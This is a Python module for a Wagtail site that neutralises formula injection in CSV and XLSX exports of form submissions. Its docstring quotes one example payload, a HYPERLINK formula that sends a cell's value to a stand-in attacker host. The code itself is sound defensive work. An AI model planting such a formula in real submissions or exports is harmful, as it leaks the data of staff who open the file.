"""Exports of form submissions that a spreadsheet cannot run.

A member can type `=HYPERLINK("http://evil.example/?x="&B2,"Click")` into a form; written as is
into the CSV that staff open in Excel or LibreOffice, it would be a live formula. Following
OWASP's advice on CSV injection, every cell (headings included) that starts with = + - @, a tab
or a carriage return gets a leading single quote, which spreadsheets show as text. The XLSX
export stores every value as a text cell: Wagtail does so for the rows, not for the headings,
which are the form's field labels (an editor's "=1+1" label would be a formula), so the heading
row is written here as text cells too.
"""

import csv

from wagtail.admin.views.mixins import Echo, ExcelDateFormatter
from wagtail.contrib.forms.views import SubmissionsListView

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value):
    """`value` made safe for a CSV cell: strings that a spreadsheet would read as a formula
    start with a single quote; anything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class InertSubmissionsListView(SubmissionsListView):
    """Wagtail's submissions list, whose CSV and XLSX exports hold no formulas."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: inert_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    def stream_csv(self, queryset):
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export)
        yield writer.writerow(
            {field: inert_cell(self.get_heading(queryset, field)) for field in self.list_export}
        )
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    def write_xlsx(self, queryset, output):
        from openpyxl import Workbook
        from openpyxl.cell import WriteOnlyCell

        workbook = Workbook(write_only=True, iso_dates=True)
        worksheet = workbook.create_sheet(title="Sheet1")
        headings = []
        for field in self.list_export:
            cell = WriteOnlyCell(worksheet, self.get_heading(queryset, field))
            cell.data_type = "s"  # openpyxl reads a string starting with "=" as a formula
            headings.append(cell)
        worksheet.append(headings)
        date_format = ExcelDateFormatter().get()
        for item in queryset:
            worksheet.append(
                self.generate_xlsx_row(worksheet, self.to_row_dict(item), date_format=date_format)
            )
        workbook.save(output)
